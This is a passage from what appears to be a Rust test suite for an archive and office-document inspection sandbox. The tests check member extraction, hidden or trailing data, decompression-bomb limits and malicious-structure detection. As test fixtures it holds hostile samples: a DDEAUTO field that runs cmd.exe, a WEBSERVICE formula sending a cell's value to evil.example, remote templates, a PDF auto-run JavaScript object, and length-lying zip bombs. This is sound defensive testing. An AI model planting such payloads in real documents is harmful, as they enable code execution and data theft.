//! Members of archives, through the real pool and the real `lazaret-media`.

mod support;

use flate2::{Compression, write::GzEncoder};
use lazaret_fixtures::raw::{Part, nested, overlapping, tar_member, tar_of, zip_of};
use lazaret_fixtures::{Zip, disc};
use lazaret_sandbox::{Coverage, Members, MembersRequest, Trouble};
use std::io::Write;
use support::*;

const LIMITS: MembersRequest =
    MembersRequest { max_members: 100, max_bytes: 8 << 20, max_ratio: 100, ratio_from: 1 << 20 };

async fn take(media_type: &str, file: &[u8], limits: &MembersRequest) -> Result<(Members, Vec<u8>), Trouble> {
    let pool = pool();
    let mut out = Vec::new();
    let members = open(&pool, file, media_type).await.members(limits, &mut out).await?;
    is_well(&pool).await;
    Ok((members, out))
}

/// Names, bytes and gaps of the members, and the gap of all.
async fn taken(
    media_type: &str,
    file: &[u8],
    limits: &MembersRequest,
) -> (Vec<(String, Vec<u8>, String)>, String) {
    let (Members { members, summary }, out) = take(media_type, file, limits).await.unwrap();
    let members = members.into_iter().map(|member| {
        let from = member.offset as usize;
        let gap = member.gap.map(|why| why.code).unwrap_or_default();
        (member.name, out[from..from + member.bytes as usize].to_vec(), gap)
    });
    (members.collect(), code(&summary.coverage).to_owned())
}

fn code(coverage: &Coverage) -> &str {
    match coverage {
        Coverage::Complete => "",
        Coverage::Partial(why) | Coverage::Failed(why) => &why.code,
    }
}

fn gz(content: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(content).unwrap();
    encoder.finish().unwrap()
}

fn whole(name: &str, content: &[u8]) -> (String, Vec<u8>, String) {
    (name.to_owned(), content.to_vec(), String::new())
}

#[tokio::test]
async fn every_member_comes_out_as_it_went_in() {
    let long: Vec<u8> = (0..700_000u32).map(|i| (i.wrapping_mul(i) >> 9) as u8).collect();
    let zip = Zip::default().stored("a", b"one").deflated("d/b", &long).stored("empty", b"").finish();
    let (members, gap) = taken("application/zip", &zip, &LIMITS).await;
    assert!(
        members == [whole("a", b"one"), whole("d/b", &long), whole("empty", b"")] && gap.is_empty(),
        "{gap}"
    );

    let link = tar_member(b"l", b'2', b"/etc/passwd", b"");
    let tar = tar_of(&[tar_member(b"a", b'0', b"", b"one"), link, tar_member(b"b", b'0', b"", &long)]);
    let (members, gap) = taken("application/x-tar", &tar, &LIMITS).await;
    assert!(members == [whole("a", b"one"), whole("b", &long)] && gap.is_empty(), "{gap}");

    let (members, gap) = taken("application/gzip", &gz(&long), &LIMITS).await;
    assert!(members == [whole("content", &long)] && gap.is_empty(), "{gap}");
    // Two streams one after another are one file, as `zcat` reads them.
    let (members, _) = taken("application/gzip", &[gz(b"one"), gz(b"two")].concat(), &LIMITS).await;
    assert_eq!(members, [whole("content", b"onetwo")]);
}

#[tokio::test]
async fn a_member_that_is_not_listed_comes_out_too() {
    let zip = zip_of(&[Part::stored("a", b"one"), Part::stored("b", b"two").with(|p| p.is_listed = false)]);
    let (members, gap) = taken("application/zip", &zip, &LIMITS).await;
    assert_eq!((members, gap.as_str()), (vec![whole("a", b"one"), whole("b", b"two")], "hidden"));
}

#[tokio::test]
async fn what_passes_for_a_link_is_looked_at_too() {
    let zip = zip_of(&[Part::stored("l", b"MZ or a path").with(|p| p.mode = 0o120_777)]);
    let (members, gap) = taken("application/zip", &zip, &LIMITS).await;
    assert_eq!((members, gap.as_str()), (vec![whole("l", b"MZ or a path")], ""));
}

#[tokio::test]
async fn what_cannot_be_read_is_a_gap_and_the_rest_comes_out() {
    let ppmd = Part::stored("ppmd", b"something").with(|p| p.method = 98);
    let lzma = Part::stored("lzma", b"something").with(|p| p.method = 14);
    let broken = Part::stored("broken", b"something").with(|p| p.crc = 1);
    let short = Part::stored("short", b"something").with(|p| (p.size, p.listed_size) = (90, 90));
    let rest = Part::stored("rest", b"the rest");
    let cases = [
        (zip_of(&[ppmd, rest.clone()]), "unreadable"),
        (zip_of(&[lzma, rest.clone()]), "unreadable"),
        (zip_of(&[broken, rest.clone()]), "unreadable"),
        (zip_of(&[short, rest]), "unreadable"),
        (Zip::default().encrypted("e", b"secret").stored("rest", b"the rest").finish(), "encrypted"),
    ];
    for (zip, why) in cases {
        let (members, gap) = taken("application/zip", &zip, &LIMITS).await;
        assert_eq!((members[0].2.as_str(), gap.as_str()), (why, why));
        assert_eq!(members[1], whole("rest", b"the rest"));
    }
    let cut = &gz(&[5; 5000])[..20];
    let (members, gap) = taken("application/gzip", cut, &LIMITS).await;
    assert_eq!((members.len(), gap.as_str()), (1, "unreadable"));
    let (_, gap) = taken("application/gzip", &[&gz(b"x")[..], b"and more"].concat(), &LIMITS).await;
    assert_eq!(gap, "trailing");
}

/// `some text some text some text ` by each method of ZIP that is unpacked, as Python, `zstd` and `xz` pack it.
const TEXT: &[u8] = b"some text some text some text ";
const PACKED: [(u16, &[u8]); 5] = [
    (8, b"\x2b\xce\xcf\x4d\x55\x28\x49\xad\x28\x51\x28\xc6\xc2\x02\x00"),
    (
        12,
        b"BZh91AY&SY\x89\xbb\x59\xbc\x00\x00\x0a\x11\x80\x40\x00\x02\x02\x8c\x40\x20\x00\x22\xbf\xd5\x13\x68\x21\x80\x8b\x7d\x6c\x44\x6a\x9a\xe1\x77\x24\x53\x85\x09\x08\x9b\xb5\x9b\xc0",
    ),
    (
        14,
        b"\x09\x04\x05\x00\x5d\x00\x00\x80\x00\x00\x39\x9b\xc9\xf2\xe7\x50\xb8\xc5\xe2\x5c\xb5\x82\x35\x75\x7d\x7b\xff\xff\xfb\x2c\x40\x00",
    ),
    (93, b"\x28\xb5\x2f\xfd\x04\x58\x85\x00\x00Psome text \x01\x00\xa5\x0b\x12\xbb\x36\xec\x7d"),
    (
        95,
        b"\xfd7zXZ\x00\x00\x04\xe6\xd6\xb4\x46\x02\x00\x21\x01\x16\x00\x00\x00\x74\x2f\xe5\xa3\xe0\x00\x1d\x00\x11\x5d\x00\x39\x9b\xc9\xf2\xe7\x50\xb8\xc5\xe2\x5c\xb5\x82\x35\x6b\x39\x00\x00\x00\x00\x00\x00\xe2\x62\xad\x1a\x10\xf6\x65\xde\x00\x01\x2d\x1e\xa7\xd2\xa3\xfa\x1f\xb6\xf3\x7d\x01\x00\x00\x00\x00\x04YZ",
    ),
];

#[tokio::test]
async fn bytes_behind_a_compressed_stream_are_a_gap() {
    let pdf = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n";
    let descriptor = |packed: &[u8]| {
        let [crc, packed, size] = [crc32fast::hash(TEXT), packed.len() as u32, TEXT.len() as u32];
        [&b"PK\x07\x08"[..], &crc.to_le_bytes(), &packed.to_le_bytes(), &size.to_le_bytes()].concat()
    };
    for (method, packed) in PACKED {
        let entry = Part::stored("b", b"MZ and more");
        let local = zip_of(&[entry]);
        let local = &local[..local.windows(4).position(|w| w == b"PK\x01\x02").unwrap()];
        for (behind, streamed) in [
            (vec![], false),
            (pdf.to_vec(), false),
            (vec![0], false),
            // For who reads from front to back: a true descriptor, and a member of its own.
            ([descriptor(packed).as_slice(), local].concat(), true),
        ] {
            let part = Part::stored("a", TEXT).with(|p| {
                (p.packed, p.method, p.streamed) = ([packed, &behind].concat(), method, streamed);
            });
            let zip = zip_of(&[part]);
            let (Members { members, summary }, out) = take("application/zip", &zip, &LIMITS).await.unwrap();
            let found: Vec<_> = summary.findings.iter().map(|f| f.code.as_str()).collect();
            let expected = match (behind.is_empty(), streamed) {
                (true, _) => (vec![], ""),
                (false, false) => (vec!["structure.gap"], "gap"),
                (false, true) => (vec!["structure.gap"], "hidden"),
            };
            assert_eq!((found, code(&summary.coverage)), expected, "method {method}, {behind:x?}");
            assert!(members.len() == 1 && out == TEXT, "method {method}");
        }
    }
}

#[tokio::test]
async fn bombs_stop_at_each_limit() {
    let ratio = MembersRequest { max_bytes: u64::MAX, ..LIMITS };
    let zeros = vec![0; 4 << 20];
    let honest = Zip::default().deflated("zeros", &zeros).finish();
    let liar = {
        let mut bytes = honest.clone();
        // Sizes in the local header and in the directory say one byte.
        let directory = bytes.windows(4).rposition(|w| w == b"PK\x01\x02").unwrap();
        for at in [22, directory + 24] {
            bytes[at..at + 4].copy_from_slice(&1u32.to_le_bytes());
        }
        bytes
    };
    let many: Vec<_> = (0..101).map(|n| Part::stored(&n.to_string(), b"x")).collect();
    let cases: [(&str, Vec<u8>, MembersRequest, &str, u64); 7] = [
        // Declared: nothing is unpacked at all.
        ("application/zip", honest.clone(), ratio, "limit.ratio", 0),
        ("application/zip", honest, MembersRequest { max_bytes: 100, ..LIMITS }, "limit.expanded", 0),
        ("application/zip", zip_of(&many), LIMITS, "limit.members", 0),
        // Not declared: it stops where the limit is.
        ("application/zip", liar, ratio, "limit.ratio", 1 << 20),
        ("application/gzip", gz(&zeros), ratio, "limit.ratio", 1 << 20),
        ("application/gzip", gz(&zeros), MembersRequest { max_bytes: 100, ..LIMITS }, "limit.expanded", 100),
        ("application/zip", overlapping(50, &zeros), LIMITS, "overlap", 0),
    ];
    for (media_type, file, limits, why, most) in cases {
        let (members, out) = take(media_type, &file, &limits).await.unwrap();
        let gap = code(&members.summary.coverage);
        let expected = gap == why || why == "overlap" && gap == "hidden";
        assert!(expected && out.len() as u64 <= most, "{why}: {gap}, {} bytes", out.len());
    }
}

#[tokio::test]
async fn a_document_says_what_it_fetches() {
    const DOCX: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    let relations = |kind: &str| {
        format!(
            "<Relationships><Relationship Type=\"x/{kind}\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"
        )
    };
    for (kind, found) in [("attachedTemplate", 1), ("hyperlink", 0)] {
        let docx = Zip::default()
            .deflated("[Content_Types].xml", b"<Types/>")
            .deflated("word/document.xml", b"<w/>")
            .deflated("word/_rels/settings.xml.rels", relations(kind).as_bytes())
            .finish();
        let (members, _) = take(DOCX, &docx, &LIMITS).await.unwrap();
        let codes: Vec<_> = members.summary.findings.iter().map(|f| f.code.as_str()).collect();
        assert_eq!(codes, vec!["structure.external"; found], "{kind}");
    }
}

/// A gzip stream whose header holds these (RFC 1952, 2.3).
fn gz_with(extra: &[u8], comment: &[u8], content: &[u8]) -> Vec<u8> {
    let mut header = flate2::GzBuilder::new();
    if !extra.is_empty() {
        header = header.extra(extra);
    }
    if !comment.is_empty() {
        header = header.comment(comment);
    }
    let mut encoder = header.write(Vec::new(), Compression::best());
    encoder.write_all(content).unwrap();
    encoder.finish().unwrap()
}

#[tokio::test]
async fn what_stands_beside_the_content_of_a_stream_is_told() {
    let pool = pool();
    let zip = Zip::default().stored("a", b"one").finish();
    let cases: [(&str, Vec<u8>, &[&str]); 6] = [
        ("application/gzip", gz_with(b"BC\x02\0\x1b\0", b"", b"text"), &[]),
        ("application/gzip", gz_with(b"", b"a few words", b"text"), &[]),
        ("application/gzip", gz_with(&zip, b"", b"text"), &["structure.gap", "structure.embedded"]),
        ("application/gzip", gz_with(b"", &[b'x'; 500], b"text"), &["structure.gap"]),
        ("application/gzip", gz_with(b"%PDF-1.7 x", b"", b"text"), &["structure.embedded"]),
        // Nothing but a frame that readers pass over.
        (
            "application/zstd",
            [b"\x50\x2a\x4d\x18\x64\0\0\0".to_vec(), vec![7; 100], zstd(b"text")].concat(),
            &["structure.gap"],
        ),
    ];
    for (media_type, file, found) in cases {
        let report = open(&pool, &file, media_type).await.walk().await.unwrap();
        let codes: Vec<_> = report.findings.iter().map(|f| f.code.as_str()).collect();
        assert_eq!((codes.as_slice(), code(&report.coverage)), (found, ""), "{report:?}");
    }
}

/// A frame of one raw block (RFC 8878, 3.1.1).
fn zstd(content: &[u8]) -> Vec<u8> {
    let block = (content.len() as u32) << 3 | 1;
    [&b"\x28\xb5\x2f\xfd\x20"[..], &[content.len() as u8], &block.to_le_bytes()[..3], content].concat()
}

/// Decompressors ask for no more memory than their limits allow, whatever a header says.
#[tokio::test]
async fn windows_of_any_size_are_not_given() {
    // Windows of 3.75 TiB and 1 GiB (RFC 8878, 3.1.1.1.2), and an lzma dictionary of 4 GiB less a byte.
    let frame = |window: u8| [&b"\x28\xb5\x2f\xfd\0"[..], &[window, 0x21, 0, 0], b"text"].concat();
    for file in [frame(0xff), frame(0xa0)] {
        assert_eq!(taken("application/zstd", &file, &LIMITS).await.1, "unreadable");
    }
    let packed = b"\x09\x14\x05\0\x5d\xff\xff\xff\xff and so on".to_vec();
    let part = Part::stored("a", b"text").with(|p| (p.packed, p.method) = (packed, 14));
    assert_eq!(taken("application/zip", &zip_of(&[part]), &LIMITS).await.1, "unreadable");
    // Of 7z: its coder's properties.
    let file = disc::seven_with(&[3, 1, 1], &[0x5d, 0xff, 0xff, 0xff, 0xff], &[("A", b"text")], None);
    assert_eq!(taken("application/x-7z-compressed", &file, &LIMITS).await.1, "unreadable");
    if let Some(mut file) = tool("xz", b"some text") {
        // The dictionary of its one filter, behind the block's header (.xz file format, 3.1 and 5.3.1).
        assert_eq!(file[14..16], [0x21, 1]);
        file[16] = 40;
        let sum = crc32fast::hash(&file[12..20]).to_le_bytes();
        file[20..24].copy_from_slice(&sum);
        assert_eq!(taken("application/x-xz", &file, &LIMITS).await.1, "unreadable");
    }
}

#[tokio::test]
async fn links_in_a_7z_are_told() {
    let pool = pool();
    for (attributes, found) in [(0x20, 0), (0xa1ff_8000, 1), (0x400, 1), (0x81a4_8000, 0)] {
        let file = disc::seven_with(&[0], &[], &[("A", b"/etc/passwd")], Some(attributes));
        let members =
            open(&pool, &file, "application/x-7z-compressed").await.members(&LIMITS, &mut Vec::new()).await;
        let codes: Vec<_> = members.unwrap().summary.findings.iter().map(|f| f.code.clone()).collect();
        assert_eq!(codes, vec!["structure.link"; found], "{attributes:x}");
    }
}

#[tokio::test]
async fn walks_of_compressed_streams() {
    let pool = pool();
    let whole = gz(b"some text");
    let cases: [(Vec<u8>, &[&str], &str); 5] = [
        (whole.clone(), &[], ""),
        ([&whole[..], &[0; 700]].concat(), &[], ""),
        ([&whole[..], b"PK\x03\x04"].concat(), &["structure.trailing"], ""),
        (whole[..whole.len() - 3].to_vec(), &["structure.truncated"], "truncated"),
        ([whole.clone(), whole].concat(), &["structure.hidden"], ""),
    ];
    for (file, found, gap) in cases {
        let report = open(&pool, &file, "application/gzip").await.walk().await.unwrap();
        let codes: Vec<_> = report.findings.iter().map(|f| f.code.as_str()).collect();
        assert_eq!((codes.as_slice(), code(&report.coverage)), (found, gap));
    }
}

#[tokio::test]
async fn a_nested_archive_comes_out_one_level_at_a_time() {
    let (members, _) = taken("application/zip", &nested(3, "deep", b"x"), &LIMITS).await;
    assert_eq!(members.iter().map(|m| m.0.as_str()).collect::<Vec<_>>(), ["level-2.zip"]);
    assert!(members[0].1.starts_with(b"PK\x03\x04"));
}

#[tokio::test]
async fn what_is_no_archive_is_refused() {
    let refused = take("application/vnd.rar", b"Rar!\x1a\x07\x00", &LIMITS).await.unwrap_err();
    assert_eq!(refused.code(), "unreadable");
}

/// What a tool makes of bytes; `None` where it is not installed.
fn tool(program: &str, bytes: &[u8]) -> Option<Vec<u8>> {
    use std::process::{Command, Stdio};
    let child = Command::new(program).arg("-c").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn();
    let mut child = match child {
        Ok(child) => child,
        Err(error) if error.kind() == std::io::ErrorKind::NotFound => {
            eprintln!("skipped: {program} is not installed");
            return None;
        }
        Err(error) => panic!("{program}: {error}"),
    };
    let (mut stdin, bytes) = (child.stdin.take().unwrap(), bytes.to_vec());
    let feeding = std::thread::spawn(move || stdin.write_all(&bytes));
    let output = child.wait_with_output().unwrap();
    feeding.join().unwrap().unwrap();
    assert!(output.status.success(), "{program}");
    Some(output.stdout)
}

#[tokio::test]
async fn streams_of_real_tools_come_apart_and_are_walked() {
    let content: Vec<u8> = (0..300_000u32).map(|i| (i.wrapping_mul(i) >> 9) as u8).collect();
    let pool = pool();
    for (program, media_type) in [
        ("gzip", "application/gzip"),
        ("bzip2", "application/x-bzip2"),
        ("xz", "application/x-xz"),
        ("zstd", "application/zstd"),
    ] {
        let Some(file) = tool(program, &content) else { continue };
        let report = open(&pool, &file, media_type).await.walk().await.unwrap();
        assert_eq!((code(&report.coverage), report.findings.len()), ("", 0), "{program}: {report:?}");
        let (members, gap) = taken(media_type, &file, &LIMITS).await;
        assert!(members == [whole("content", &content)] && gap.is_empty(), "{program}: {gap}");

        let behind = [&file[..], b"and more"].concat();
        let report = open(&pool, &behind, media_type).await.walk().await.unwrap();
        assert_eq!(report.findings[0].code, "structure.trailing", "{program}");
        assert_eq!(taken(media_type, &behind, &LIMITS).await.1, "trailing", "{program}");
        for cut in [1, 5, 12, file.len() / 2, file.len() - 1] {
            let report = open(&pool, &file[..cut], media_type).await.walk().await.unwrap();
            assert!(!report.coverage.is_complete(), "{program} cut at {cut}");
            assert_eq!(
                taken(media_type, &file[..cut], &LIMITS).await.1,
                "unreadable",
                "{program} cut at {cut}"
            );
        }
        let zeros = tool(program, &vec![0; 4 << 20]).unwrap();
        let gap = taken(media_type, &zeros, &MembersRequest { max_bytes: u64::MAX, ..LIMITS }).await.1;
        assert_eq!(gap, "limit.ratio", "{program}");
    }
}

#[tokio::test]
async fn seven_and_discs() {
    let long: Vec<u8> = (0..200_000u32).map(|i| (i.wrapping_mul(i) >> 9) as u8).collect();
    let files: [(&str, &[u8]); 2] = [("A.TXT", b"one"), ("B.BIN", &long)];
    let expected = [whole("A.TXT", b"one"), whole("B.BIN", &long)];
    let pool = pool();
    for (media_type, file) in [
        ("application/x-7z-compressed", disc::seven(&[0], &files)),
        ("application/x-iso9660-image", disc::iso(&files)),
    ] {
        let report = open(&pool, &file, media_type).await.walk().await.unwrap();
        assert_eq!((code(&report.coverage), report.findings.len()), ("", 0), "{media_type}: {report:?}");
        let (members, gap) = taken(media_type, &file, &LIMITS).await;
        assert!(members == expected && gap.is_empty(), "{media_type}: {gap} {}", members.len());
        let gap = taken(media_type, &file, &MembersRequest { max_members: 1, ..LIMITS }).await.1;
        assert_eq!(gap, "limit.members", "{media_type}");
        let gap = taken(media_type, &file, &MembersRequest { max_bytes: 10, ..LIMITS }).await.1;
        assert_eq!(gap, "limit.expanded", "{media_type}");
        let cut = &file[..file.len() - 100];
        let report = open(&pool, cut, media_type).await.walk().await.unwrap();
        assert!(!report.coverage.is_complete(), "{media_type}");
        assert!(!taken(media_type, cut, &LIMITS).await.1.is_empty(), "{media_type}");
    }
    // AES, PPMd, and what nobody knows.
    for (method, why) in
        [(&[6, 0xf1, 7, 1][..], "encrypted"), (&[3, 4, 1], "unreadable"), (&[9, 9], "unreadable")]
    {
        let file = disc::seven(method, &files);
        assert_eq!(taken("application/x-7z-compressed", &file, &LIMITS).await.1, why, "{method:?}");
    }
}

#[tokio::test]
async fn methods_that_clamd_passes_over() {
    let code = "import sys,zipfile\nfor m in (8,12,14):\n  with zipfile.ZipFile(sys.argv[1]+str(m),'w',m) as z: z.writestr('a',b'some text '*9999)";
    let folder = tempfile::tempdir().unwrap();
    let prefix = folder.path().join("m");
    let content = b"some text ".repeat(9999);
    match std::process::Command::new("python3").args(["-c", code]).arg(&prefix).status() {
        Ok(status) => assert!(status.success()),
        Err(error) => return eprintln!("skipped: python3: {error}"),
    }
    for method in [8, 12, 14] {
        let zip = std::fs::read(format!("{}{method}", prefix.display())).unwrap();
        let (members, gap) = taken("application/zip", &zip, &LIMITS).await;
        assert!(members == [whole("a", &content)] && gap.is_empty(), "{method}: {gap}");
    }
    for (program, method) in [("zstd", 93), ("xz", 95)] {
        let Some(packed) = tool(program, &content) else { continue };
        let part = Part::stored("a", &content).with(|p| (p.packed, p.method) = (packed, method));
        let (members, gap) = taken("application/zip", &zip_of(&[part]), &LIMITS).await;
        assert!(members == [whole("a", &content)] && gap.is_empty(), "{method}: {gap}");
    }
}

/// Bytes of a 7z archive that no stream claims: in front of the first, behind the last, in front of the list where that is
/// packed too.
#[tokio::test]
async fn bytes_that_no_stream_of_seven_claims_are_a_gap() {
    const SEVEN: &str = "application/x-7z-compressed";
    let rar = b"Rar!\x1a\x07\x01\0 and so on";
    let plain = disc::seven(&[0], &[("a.txt", b"some text")]);
    let (body, list) = (plain[32..41].to_vec(), plain[41..].to_vec());
    let archive = |body: &[u8], list: &[u8]| {
        let mut start = (body.len() as u64).to_le_bytes().to_vec();
        start.extend((list.len() as u64).to_le_bytes());
        start.extend(crc32fast::hash(list).to_le_bytes());
        let crc = crc32fast::hash(&start).to_le_bytes();
        [&plain[..8], &crc, &start, body, list].concat()
    };
    // Where the packed streams begin is the fourth byte of the list.
    let from = |place: usize| {
        let mut list = list.clone();
        list[3] = u8::try_from(place).unwrap();
        list
    };
    // A list that is a stream of its own, as it is, at this place.
    let packed = |place: usize, length: usize| {
        let [place, length] = [place, length].map(|n| u8::try_from(n).unwrap());
        vec![0x17, 6, place, 1, 9, length, 0, 7, 0x0b, 1, 0, 1, 1, 0, 0x0c, length, 0, 0]
    };
    let n = rar.len();
    let cases = [
        ("all claimed", archive(&body, &list), ""),
        ("in front", archive(&[&rar[..], &body].concat(), &from(n)), "gap"),
        ("behind", archive(&[&body[..], rar].concat(), &list), "gap"),
        ("zeros", archive(&[&body[..], &[0; 9]].concat(), &list), "gap"),
        ("a packed list", archive(&[&body[..], &list].concat(), &packed(9, list.len())), ""),
        ("in front of it", archive(&[&body[..], rar, &list].concat(), &packed(9 + n, list.len())), "gap"),
        ("behind it", archive(&[&body[..], &list, rar].concat(), &packed(9, list.len())), "gap"),
        ("shared with it", archive(&list, &packed(0, list.len())), "overlap"),
    ];
    for (what, file, expected) in cases {
        let (Members { summary, .. }, _) = take(SEVEN, &file, &LIMITS).await.unwrap();
        let found: Vec<_> =
            summary.findings.iter().map(|f| f.code.trim_start_matches("structure.")).collect();
        let wanted = if expected.is_empty() { vec![] } else { vec![expected] };
        assert_eq!(found, wanted, "{what}: {summary:?}");
        assert!(expected.is_empty() || !summary.coverage.is_complete(), "{what}: {summary:?}");
    }
}

/// Of a stream of 7z itself: who unpacks its members reads no further than these go.
#[tokio::test]
async fn bytes_behind_what_is_packed_in_a_stream_of_seven_are_a_gap() {
    const SEVEN: &str = "application/x-7z-compressed";
    let [(_, deflate), (_, bzip2), (_, lzma), _, (_, xz)] = PACKED;
    // Behind the header of ZIP's and of xz's own, with the mark that ends LZMA2.
    let (lzma, lzma2) = (&lzma[9..], [&xz[24..48], &[0]].concat());
    let (stored, list) = (TEXT, |file: &[u8]| file[32 + TEXT.len()..].to_vec());
    let coders: [(&[u8], &[u8], &[u8]); 5] = [
        (&[0], &[], stored),
        (&[4, 1, 8], &[], deflate),
        (&[4, 2, 2], &[], bzip2),
        (&[3, 1, 1], &[0x5d, 0, 0, 0x80, 0], lzma),
        (&[0x21], &[0x16], &lzma2),
    ];
    let pdf = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n";
    let expect = async |what: &str, file: &[u8], wanted: &[&str]| {
        let (Members { members, summary }, out) = take(SEVEN, file, &LIMITS).await.unwrap();
        let found: Vec<_> = summary.findings.iter().map(|f| f.code.as_str()).collect();
        assert_eq!(found, wanted, "{what}: {summary:?}");
        assert_eq!(
            code(&summary.coverage),
            if wanted.is_empty() { "" } else { "gap" },
            "{what}: {summary:?}"
        );
        assert!(members.len() == 1 && out == TEXT, "{what}");
    };
    for (method, properties, packed) in coders {
        for (behind, wanted) in [(&b""[..], &[][..]), (pdf, &["structure.gap"]), (&[0], &["structure.gap"])] {
            let stream = [packed, behind].concat();
            let file = disc::seven_packed(method, properties, &[("a", TEXT)], None, &stream);
            expect(&format!("{method:x?}, {} bytes", behind.len()), &file, wanted).await;
        }
    }
    // The list of members is such a stream too.
    let plain = disc::seven(&[0], &[("a", TEXT)]);
    let list = list(&plain);
    for (behind, wanted) in [(&b""[..], &[][..]), (pdf, &["structure.gap"])] {
        let body = [TEXT, &list, behind].concat();
        let [place, length, unpacked] =
            [TEXT.len(), list.len() + behind.len(), list.len()].map(|n| u8::try_from(n).unwrap());
        let length = if length < 0x80 { vec![length] } else { vec![0x80, length] };
        let told = [&[0x17, 6, place, 1, 9], &length[..], &[0, 7, 0x0b, 1, 0, 1, 1, 0, 0x0c, unpacked, 0, 0]];
        let told = told.concat();
        let mut start = (body.len() as u64).to_le_bytes().to_vec();
        start.extend((told.len() as u64).to_le_bytes());
        start.extend(crc32fast::hash(&told).to_le_bytes());
        let crc = crc32fast::hash(&start).to_le_bytes();
        let file = [&plain[..8], &crc, &start, &body, &told].concat();
        expect("the list", &file, wanted).await;
    }
}

/// A stream that no member is taken from, beside one that is empty.
#[tokio::test]
async fn a_stream_of_seven_without_members_is_a_gap() {
    let n = u8::try_from(TEXT.len()).unwrap();
    let list = [
        &[1, 4, 6, 0, 1, 9, n, 0, 7, 0x0b, 1, 0, 1, 1, 0, 0x0c, n, 0, 8, 0x0d, 0, 0, 0, 5, 1][..],
        &[0x0e, 1, 0x80, 0x0f, 1, 0x80, 0x11, 5, 0, b'a', 0, 0, 0, 0, 0],
    ]
    .concat();
    let mut start = (TEXT.len() as u64).to_le_bytes().to_vec();
    start.extend((list.len() as u64).to_le_bytes());
    start.extend(crc32fast::hash(&list).to_le_bytes());
    let crc = crc32fast::hash(&start).to_le_bytes();
    let file = [&b"7z\xbc\xaf\x27\x1c\0\x04"[..], &crc, &start, TEXT, &list].concat();
    let (Members { members, summary }, _) =
        take("application/x-7z-compressed", &file, &LIMITS).await.unwrap();
    let found: Vec<_> = summary.findings.iter().map(|f| f.code.as_str()).collect();
    assert_eq!((members.len(), found, code(&summary.coverage)), (1, vec!["structure.gap"], "gap"));
}

/// What parts of an office document are called is free: content types, relations and the parts themselves tell what
/// they are.
#[tokio::test]
async fn parts_of_documents_are_judged_by_what_they_are() {
    const RELATIONS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    let types = |more: &str| {
        format!(
            "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"xml\" ContentType=\"application/xml\"/>{more}</Types>"
        )
    };
    let related = |kind: &str, target: &str| {
        format!(
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r\" Type=\"{kind}\" Target=\"{target}\"/></Relationships>"
        )
    };
    let word = |body: &str| {
        format!(
            "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">{body}</w:document>"
        )
    };
    let sheet = |root: &str, body: &str| {
        format!("<{root} xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">{body}</{root}>")
    };
    let field = word("<w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc\"</w:instrText>");
    let wide: Vec<u8> = field.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let web = sheet(
        "connections",
        "<connection id=\"1\" refreshOnLoad=\"1\"><webPr url=\"http://evil.example/\"/></connection>",
    );
    let service = sheet("worksheet", "<f>_xlfn.WEB<![CDATA[SERVICE]]>(\"http://evil.example/\"&amp;A1)</f>");
    let macros = "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"/>";
    let over = |kind: &str| types(&format!("<Override PartName=\"/xl/a/s.xml\" ContentType=\"{kind}\"/>"));
    let xlm = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet";
    let cases: Vec<(&str, &str, Vec<u8>, &[&str])> = vec![
        ("a letter", "word/document.xml", word("<w:t>WEBSERVICE( and DDEAUTO</w:t>").into(), &[]),
        ("a picture", "word/media/image1.png", b"\x89PNG and so on".to_vec(), &[]),
        (
            "a table",
            "xl/worksheets/sheet1.xml",
            sheet("worksheet", "<f>SUM(A1:A3)</f><f>MYIMAGE(1)</f>").into(),
            &[],
        ),
        ("a field in a part of another name", "word/document.dat", field.clone().into(), &["external"]),
        ("in two bytes a character, without a mark", "word/document.dat", wide, &["external"]),
        (
            "a field in a part without an extension",
            "word/d",
            [b"\xef\xbb\xbf\n".to_vec(), field.into()].concat(),
            &["external"],
        ),
        ("a query", "xl/connections.xml", web.clone().into(), &["external"]),
        ("a query in a part of another name", "xl/c.bin", web.into(), &["external"]),
        ("a formula that fetches", "xl/s.bin", service.into(), &["external"]),
        ("a macro sheet by its root", "xl/a/s.xml", macros.into(), &["macro"]),
        (
            "a macro sheet by its type",
            "[Content_Types].xml",
            over("application/vnd.ms-excel.macrosheet+xml").into(),
            &["macro"],
        ),
        (
            "macros by their type",
            "[Content_Types].xml",
            over("application/vnd.ms-office.vbaProject").into(),
            &["macro"],
        ),
        (
            "a macro sheet by its relation",
            "xl/_rels/workbook.xml.rels",
            related(xlm, "a/s.xml").into(),
            &["macro"],
        ),
        (
            "macros by their relation",
            "word/_rels/document.xml.rels",
            related("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a.dat").into(),
            &["macro"],
        ),
        (
            "an object by its relation",
            "xl/_rels/s.xml.rels",
            related(&format!("{RELATIONS}/oleObject"), "/a").into(),
            &["object"],
        ),
        (
            "a package by its relation",
            "xl/_rels/s.xml.rels",
            related(&format!("{RELATIONS}/package"), "/a").into(),
            &["object"],
        ),
        (
            "a control by its relation",
            "xl/_rels/s.xml.rels",
            related(&format!("{RELATIONS}/control"), "/a").into(),
            &["object"],
        ),
        (
            "a chunk of html",
            "word/_rels/document.xml.rels",
            related(&format!("{RELATIONS}/aFChunk"), "/a").into(),
            &["object"],
        ),
        (
            "a template",
            "word/_rels/settings.xml.rels",
            related(&format!("{RELATIONS}/attachedTemplate"), "a.dotm").into(),
            &["external"],
        ),
        (
            "styles",
            "word/_rels/document.xml.rels",
            related(&format!("{RELATIONS}/styles"), "styles.xml").into(),
            &[],
        ),
    ];
    for (what, name, content, expected) in cases {
        let zip = match name {
